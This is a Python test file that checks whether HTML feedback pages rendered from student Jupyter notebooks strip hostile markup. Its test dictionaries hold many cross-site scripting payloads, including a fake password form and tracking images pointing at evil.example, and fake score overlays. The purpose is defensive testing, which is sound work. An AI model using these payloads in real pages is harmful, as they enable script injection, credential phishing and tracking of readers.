"""What a student writes or prints does nothing to whoever opens the page that shows it."""

import base64
import re
from html.parser import HTMLParser

import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.exporters import html as html_exporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from traitlets.config import Config

from actlib.checks import check
from actlib.grading import pages
from actlib.grading.clean import SAFE_HTML
from actlib.grading.pages import FEEDBACK, SHORT, speed_up_nbconvert

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
HOSTILE = {
    "script": "<script>evil()</script>",
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "onerror": '<img src="data:image/png;base64,AA==" onerror="evil()">',
    "onload": '<svg onload="evil()"><script>evil()</script></svg>',
    "onclick": '<p onclick="evil()">click</p>',
    "an iframe": '<iframe src="data:text/html,<script>evil()</script>"></iframe>',
    "an object": '<object data="javascript:evil()"></object><embed src="javascript:evil()">',
    "a javascript link": '<a href="javascript:evil()">x</a>',
    "a hidden javascript link": '<a href=" &#106;ava\tscript:evil()">x</a>',
    "a data link": '<a href="data:text/html,<script>evil()</script>">x</a>',
    "a form": '<form action="//evil.example"><input name="password"><button>log in</button></form>',
    "a base": '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "a style sheet": "<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example>",
    "a picture from elsewhere": '<img src="https://evil.example/who-opened-this.png">',
    "a picture in a style": '<div style="background-image:url(https://evil.example/x)">x</div>',
    "an overlay": '<div style="position:fixed;inset:0;z-index:9">Score: 22/22</div>',
    "an overlay by class": '<div class="modal modal-backdrop in">Score: 22/22</div>',
    "an unclosed comment": "<!-- everything after this is gone",
    "an unclosed element": '<img title="<script>evil()</script>',
    "MathML": '<math><mtext><script>evil()</script></mtext><maction xlink:href="javascript:evil()">x</maction></math>',
    "a template": "<template><script>evil()</script></template>",
}
MARKDOWN = HOSTILE | {
    "a Markdown link": "[x](javascript:evil())",
    "a Markdown picture": "![x](https://evil.example/seen.png)",
    "a link by reference": "[x][1]\n\n[1]: javascript:evil()",
    "an automatic link": "<javascript:evil()>",
    "code": "`<script>evil()</script>`\n\n```html\n<img src=x onerror=evil()>\n```",
}
PICTURES = {
    "a quote in a picture": ("image/png", '" onerror="evil()', {}),
    "a width with a handler": ("image/png", PNG, {"image/png": {"width": "1 onerror=evil()"}}),
    "a file name": ("image/png", PNG, {"filenames": {"image/png": "https://evil.example/x.png"}}),
    "an isolated frame": ("text/html", "<script>evil()</script>", {"text/html": {"isolated": True}}),
    "an alternative text": ("image/png", PNG, {"image/png": {"alt": '"><script>evil()</script>'}}),
    "a picture with a script": ("image/svg+xml", "<svg><script>evil()</script></svg>", {}),
    "JavaScript": ("application/javascript", "evil()", {}),
    "a widget": ("application/vnd.jupyter.widget-view+json", {"model_id": "<script>evil()"}, {}),
    "mathematics": ("text/latex", "$x$<script>evil()</script>", {}),
    "plain text": ("text/plain", "\x1b[31m<script>evil()</script>\x1b[0m", {}),
}  # fmt: skip


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.acts, self.tags, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        known = {name: value or "" for name, value in attrs}
        self.acts += [f"{tag} {name}" for name in known if name.startswith("on")]
        if tag in ("script", "iframe", "object", "embed", "form", "input", "button", "base", "meta",
                   "style", "link", "svg", "math", "template", "textarea"):  # fmt: skip
            self.acts.append(tag)
        target = known.get("href", known.get("src", ""))
        squeezed = "".join(target.split()).lower()
        if squeezed.startswith(("javascript:", "vbscript:")) or (
            tag == "a" and squeezed.startswith("data:")
        ):
            self.acts.append(f"{tag} {target}")
        if tag == "img" and squeezed and not squeezed.startswith("data:image/"):
            self.acts.append(f"img {target}")
        style = known.get("style", "").replace(" ", "")
        if "url(" in style or "position:" in style or "modal" in known.get("class", ""):
            self.acts.append(f"{tag} {known}")

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture(scope="module", params=["feedback", "classic", "lab", "actlib grade"])
def page(request):
    """A function that makes a page of a notebook as nbgrader does, and as `actlib grade` does."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory

    ours = request.param == "actlib grade"
    config = Config(HTMLExporter={"template_name": "feedback" if ours else request.param})
    config.HTMLExporter.update(FEEDBACK if ours else SAFE_HTML)
    given = GenerateFeedback(coursedir=CourseDirectory(), config=Config()).config.HTMLExporter
    if ours or request.param == "feedback":
        config.HTMLExporter.extra_template_basedirs = given.extra_template_basedirs
        config.HTMLExporter.extra_template_paths = given.extra_template_paths
    exporter = HTMLExporter(config=config)

    def make(*cells, **metadata):
        about = {"notebook": "n", "score": 0, "max_score": 1, "late_penalty": 0}
        notebook = new_notebook(cells=list(cells), metadata=metadata)
        return exporter.from_notebook_node(notebook, {"nbgrader": about})[0]

    with pytest.MonkeyPatch.context() as patch:
        if ours:
            patch.setattr(html_exporter, "BeautifulSoup", None)
            speed_up_nbconvert()
        yield make


@pytest.fixture(scope="module")
def body(page):
    """A function that shows a notebook as these pages do, and reads what is in its body."""

    def show(*cells):
        reader, page_ = Reader(), page(*cells)
        start = page_.index("MARK") if "MARK" in page_ else page_.index("<body")
        reader.feed(page_[start:].replace('<script type="application/vnd.jupyter.widget', "<"))
        return reader

    return show


MARKED = new_markdown_cell("MARK")


def shown(**data):
    return new_code_cell("1", outputs=[new_output("display_data", data=data)])


@pytest.mark.parametrize("trick", MARKDOWN)
def test_markdown_does_nothing(body, trick):
    reader = body(MARKED, new_markdown_cell(MARKDOWN[trick]), new_markdown_cell("AFTER"))
    assert reader.acts == []
    marks = {
        "nbgrader": {"grade": True, "solution": True, "grade_id": "q", "points": 1, "score": 0}
    }
    reader = body(MARKED, new_markdown_cell(MARKDOWN[trick], metadata=marks))
    assert reader.acts == []


@pytest.mark.parametrize("trick", HOSTILE)
def test_an_output_does_nothing(body, trick):
    text = HOSTILE[trick]
    cells = [
        shown(**{"text/html": text}),
        shown(**{"text/markdown": text}),
        new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
        new_code_cell(text, outputs=[new_output("stream", text=text)]),
        new_code_cell("%%html\n" + text, outputs=[new_output("error", ename=text, evalue=text, traceback=[text])]),
    ]  # fmt: skip
    assert body(MARKED, *cells).acts == []


@pytest.mark.parametrize("trick", PICTURES)
def test_a_picture_and_what_is_said_of_it_does_nothing(body, trick):
    kind, data, metadata = PICTURES[trick]
    output = new_output("display_data", data={kind: data}, metadata=metadata)
    assert body(MARKED, new_code_cell("1", outputs=[output])).acts == []


def test_what_a_page_is_for_stays(body):
    """Plots, tables, formulas, the answer's own layout, and the checks' findings with their curve."""
    points = check(lambda x: 1 / (1 + 0 * x), "sigmoid").points(2)
    report = points._repr_mimebundle_()
    reader = body(
        MARKED,
        new_markdown_cell(
            "# Title\n\n**bold** $a < b$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- item"
        ),
        shown(**{"image/png": PNG}),
        shown(**{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>"}),
        shown(**{"text/html": report["text/html"]}),
        shown(**{"text/html": '<table border="1" class="dataframe"><tr><th>x</th></tr></table>'}),
    )
    assert reader.acts == []
    assert {"h1", "strong", "table", "thead", "tbody", "th", "td", "li", "caption"} <= set(
        reader.tags
    )
    assert reader.tags.count("img") >= 2 + report["text/html"].count("<img")
    text = " ".join("".join(reader.text).split())
    assert "<table" not in text
    assert "a < b" in text
    assert "sigmoid" in text


def test_every_picture_has_a_text(page):
    raw = new_markdown_cell(f'<img src="data:image/png;base64,{PNG}">')
    made = page(MARKED, shown(**{"image/png": PNG}), raw)
    pictures = re.findall("<img[^>]*>", made)
    assert len(pictures) == 2
    assert all(re.search('alt="[^"]+ ', picture) for picture in pictures)


def test_code_is_coloured_in_its_language(page):
    cell = new_code_cell("f <- function(x) TRUE  # nothing of Python's")
    assert '<span class="kc">TRUE</span>' in page(cell, language_info={"name": "R"})
    assert '<span class="kc">TRUE</span>' not in page(cell, language_info={"name": "python"})


def test_a_long_cell_is_coloured_and_not_kept(page):
    cell = new_code_cell("# " + "x" * SHORT)
    assert page(cell).count('<span class="c1"># xxx') == 1
    assert page(cell) == page(cell)


def test_a_figure_does_not_have_the_page_parsed(page, monkeypatch):
    monkeypatch.setattr(pages, "BeautifulSoup", None)
    assert "<img" in page(MARKED, shown(**{"image/png": PNG}))
